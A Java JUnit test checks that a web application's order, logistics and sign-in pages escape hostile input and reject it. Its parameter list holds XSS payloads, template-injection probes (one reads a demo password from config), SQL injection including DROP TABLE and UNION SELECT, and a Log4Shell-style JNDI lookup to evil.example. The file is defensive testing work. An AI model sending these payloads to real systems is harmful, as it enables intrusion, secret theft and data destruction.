package io.tandem.acceptance.badinput;

import static org.assertj.core.api.Assertions.assertThat;

import io.tandem.acceptance.Answers;
import io.tandem.acceptance.Caller;
import io.tandem.acceptance.Tandem;
import java.net.http.HttpResponse;
import java.util.Map;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What was typed is shown as it was typed: never run, neither by the browser, nor by the template engine, nor by MySQL. */
@ExtendWith(NothingWritten.class)
class InjectionTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"><script>alert(1)</script>",
                "' onfocus='alert(1)",
                "\" autofocus onfocus=\"alert(1)",
                "</input></form><img src=x onerror=alert(1)>",
                "{page.csrf}",
                "{#include layout /}",
                "{config:['APP_DEMO_PASSWORD']}",
                "${7*7}",
                "#{7*7}",
                "{{7*7}}",
                "' OR '1'='1",
                "1; DROP TABLE orders; --",
                "1 UNION SELECT * FROM web_session",
                "&amp;",
                "<!--",
                "${jndi:ldap://evil.example/x}"
            })
    void whatWasTypedComesBackEscaped(String typed) {
        Caller signedIn = Caller.signedIn(Tandem.order());
        signedIn.get("/");
        Caller stranger = Caller.browser(Tandem.order());
        Map<String, String> query = Map.of("userId", typed, "orderId", typed);

        assertShown(typed, signedIn.form("/", Map.of("userId", typed, "orderId", typed, "idempotencyKey", typed)), 400);
        assertShown(typed, signedIn.get("/logistic?" + Caller.encoded(query)), 400);
        assertShown(typed, signedIn.at(Tandem.logistics()).get("/logistic?" + Caller.encoded(query)), 400);
        assertShown(typed, stranger.signIn(typed, "wrong", typed), 401);
    }

    private static void assertShown(String typed, HttpResponse<String> page, int status) {
        assertThat(page.statusCode()).as(page.body()).isEqualTo(status);
        assertThat(page.body()).contains("value=\"" + escaped(typed) + "\"");
        assertThat(Answers.withoutOurScript(page))
                .doesNotContain("<script", "onerror=alert(1)>", "onfocus=\"alert", "onfocus='alert");
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;")
                .replace("<", "&lt;")
                .replace(">", "&gt;")
                .replace("\"", "&quot;")
                .replace("'", "&#39;");
    }
}
